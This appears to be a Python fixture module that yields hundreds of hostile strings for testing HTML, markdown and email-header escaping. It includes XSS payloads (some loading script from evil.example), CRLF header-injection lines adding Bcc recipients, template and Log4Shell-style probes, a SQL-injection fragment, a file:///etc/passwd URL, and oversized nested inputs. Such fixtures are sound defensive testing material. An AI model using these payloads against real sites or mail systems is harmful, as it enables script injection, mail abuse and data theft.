"""Texts that do harm if they are inserted into HTML or mail headers without escaping."""

from collections.abc import Iterator

_SCRIPTS = (
    "<script>hacked()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<script\x0c>hacked()</script>",
    "<script/x>hacked()</script>",
    "</p><script>hacked()</script>",
    "<!--><script>hacked()</script>-->",
    "<![CDATA[<script>hacked()</script>]]>",
    "<img src=x onerror=hacked()>",
    "<img src=x onerror\n=hacked()>",
    '<img src="x`y" onerror=hacked()>',
    "<img/src=x/onerror=hacked()>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hacked()><text y=1em>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style>",
    "<math href=javascript:hacked()>x</math>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data=javascript:hacked()></object>",
    "<embed src=javascript:hacked()>",
    "<form action=javascript:hacked()><button autofocus>x</button></form>",
    "<button formaction=javascript:hacked() form=f>x</button>",
    "<input autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()>x</details>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>",
    "<body onload=hacked()>",
    "<marquee onstart=hacked()>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=background:url(https://evil.example/x)>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
    "<base href=https://evil.example/>",
    "<template><script>hacked()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "<textarea></textarea><img src=x onerror=hacked()>",
    "<title><img src=x onerror=hacked()></title>",
    "<a href=javascript:hacked()>x</a>",
    '<a href="x" onclick=hacked() onmouseover=hacked()>x</a>',
    "<a id=location href=x>x</a><form name=body>",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
    "\\<script>hacked()\\</script>",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()}",
    "'\"><img src=x onerror=hacked()>",
    "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "+ADw-script+AD4-hacked()+ADw-/script+AD4-",
)

_URLS = (
    "javascript:hacked()",
    "JaVaScRiPt:hacked()",
    "java\tscript:hacked()",
    "java&#10;script:hacked()",
    "java&NewLine;script&colon;hacked()",
    "&#106;avascript:hacked()",
    "&#x6A;avascript&#58;hacked()",
    "%6Aavascript:hacked()",
    "\x01javascript:hacked()",
    "\u00a0javascript:hacked()",
    "javascript://evil.example/%0ahacked()",
    "vbscript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hacked()>",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onmouseover="hacked()',
    "https://evil.example/'onclick='hacked()",
    "https://evil.example/<script>hacked()</script>",
    "https://evil.example/\u202egpj.exe",
    "mailto:x@evil.example?body=hacked()",
    "intent://evil.example#Intent;scheme=javascript;end",
)

_AROUND_SCRIPTS = ("{}", "x {} y", "> {}", "- {}", "1. {}", "**{}**", "`{}`", "```\n{}\n```", "[{}](https://a.example)")
_AROUND_URLS = (
    *(
        "[x]({})",
        "[x](<{}>)",
        "<{}>",
        "{}",
        '[x](https://a.example "{}")',
        "![x]({})",
        "[x][1]\n\n[1]: {}",
        "[![x]({})]({})",
    ),
)

_CHARACTERS = (
    "".join(map(chr, range(1, 32))) + "x",
    "nul\x00in\x00between",
    "".join(map(chr, range(0x7F, 0xA0))) + "x",
    "\u202eabc.exe\u202c",
    "\u202e" * 500 + "never closed",
    "\u2066\u2067\u2068" * 200 + "isolates",
    "\u061c\u200e\u200f marks",
    "a" + "\u0301" * 9_990,
    ("z" + "\u0336\u0489" * 20) * 200,
    "\u200b\u200c\u200d\ufeff x" * 500,
    "\U000e0041\U000e0042 tags",
    "\ufdd0\ufffe\uffff nothing",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
    "\u2028\u2029 lines",
    "A" * 10_000,
    "\ufdfd" * 2_000,
)
_NESTED = (
    "[" * 5_000,
    "![" * 3_000,
    "> " * 3_000 + "x",
    "- " * 3_000 + "x",
    "*" * 9_000 + "x",
    "_a" * 4_000,
    "`" * 9_000,
    "<" * 9_000,
    "&" * 9_000,
    "](" * 4_000,
    "[a](" * 2_000,
    "https://" * 1_200,
    "<a href=" * 1_200,
    "~~~\n" * 2_000,
    "|" * 9_000,
    "\\" * 9_999,
)


def hostile_texts() -> Iterator[str]:
    """Return more than six hundred different texts, each short enough for a comment."""
    seen = set()
    texts = (
        *(around.format(script) for script in _SCRIPTS for around in _AROUND_SCRIPTS),
        *(around.replace("{}", url) for url in _URLS for around in _AROUND_URLS),
        *_CHARACTERS,
        *_NESTED,
    )
    for text in texts:
        if text not in seen and len(text) <= 10_000:
            seen.add(text)
            yield text


_CONTROLS = ("\r\n", "\n", "\r", "\x00", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\u2028", "\u2029")
_HEADERS = (
    "Bcc: victim@evil.example",
    "Cc: victim@evil.example",
    "To: victim@evil.example",
    "Reply-To: evil@evil.example",
    "From: evil@evil.example",
    "Subject: other",
    "Content-Type: text/html",
    "\r\nA whole other body",
)
_MALFORMED = (
    *("", " ", "@", "a", "a@", "@b.example", "a@b", "a b@example.com", "a@exam ple.com", "a@@example.com"),
    *("a@b@example.com", ".a@example.com", "a.@example.com", "a..b@example.com", "a@.example.com"),
    *("a@example..com", "a@-example.com", "a@example-.com", "a@example.com.", "a@example.c_m", "a@[127.0.0.1]"),
    *("a@[IPv6:::1]", "a@127.0.0.1", "a@localhost", "a@host.local", "a@host.invalid", "a@host.test"),
    *("Budi <budi@example.com>", "<budi@example.com>", '"Budi" <budi@example.com>', "budi@example.com (Budi)"),
    *('"budi"@example.com', '"b u d i"@example.com', '"a\\"b"@example.com', "budi(comment)@example.com"),
    *("budi@example.com,evil@evil.example", "budi@example.com;evil@evil.example", "budi@example.com evil@evil.example"),
    *("budi@example.com, evil@evil.example", "mailto:budi@example.com", "budi@example.com?bcc=evil@evil.example"),
    *("undisclosed-recipients:;", "group: budi@example.com;", "budi@example.com>", "budi@example.com<x"),
    *(
        "=?utf-8?q?budi?=@example.com@x",
        "a" * 65 + "@example.com",
        "a@" + "b" * 64 + ".example",
        "a@" + "b." * 130 + "com",
    ),
    *("budi%0d%0aBcc:evil@evil.example", "budi@example.com%0d%0aBcc:evil@evil.example", "budi@example.com\\r\\nBcc: x"),
    *(
        "budi@exa\u00admple.com",
        "budi\u200b@example.com",
        "budi@example.com\u202e",
        "\u202ebudi@example.com",
        "b\ud800@example.com",
    ),
    *("budi@\uff45xample.com\n", "budi@example.com\t", "\tbudi@example.com", "a@xn--.example", "a@xn--a.example"),
    *(
        "javascript:alert(1)",
        "<script>alert(1)</script>@example.com",
        "a@<script>.example",
        "' or 1=1 --@example.com x",
    ),
    *("a@ex*ample.com", "a@ex/ample.com", "a@ex?ample.com", "a@example.com/", "a@example.com#", "a@example.com:25"),
)


def hostile_addresses() -> Iterator[str]:
    """Return invalid email addresses, many of them made to inject a header."""
    yield from _MALFORMED
    for control in _CONTROLS:
        yield f"budi@example.com{control}"
        yield f"budi{control}@example.com"
        for header in _HEADERS[:3]:
            yield f"budi@example.com{control}{header}"


def hostile_lines() -> Iterator[str]:
    """Return lines that are made to inject a header or an address, to run as a template, or to be hard to encode."""
    for control in _CONTROLS:
        for header in _HEADERS[: 4 if len(control) == 1 else 8]:
            yield f"Hello{control}{header}"
    yield from (
        *("=?utf-8?q?Hello=0d=0aBcc:_evil=40evil.example?=", "=?utf-8?b?SGVsbG8NCkJjYzogZXZpbEBldmlsLmV4YW1wbGU=?="),
        *("Hello%0d%0aBcc: evil@evil.example", "Hello\\r\\nBcc: evil@evil.example", '"Hello" <evil@evil.example>'),
        *(
            "evil@evil.example,",
            "Hello;Bcc:evil@evil.example",
            "\u202eolleH",
            "\u2066Hello",
            "Hello\ud800",
            "\ufeffHello",
        ),
        *(
            "H" + "\u0301" * 90,
            "👩‍👩‍👧‍👦" * 12,
            "{site.site_url}",
            "{0.__class__}",
            "%(site)s",
            "{{ 7*7 }}",
            "${jndi:ldap://x}",
        ),
    )
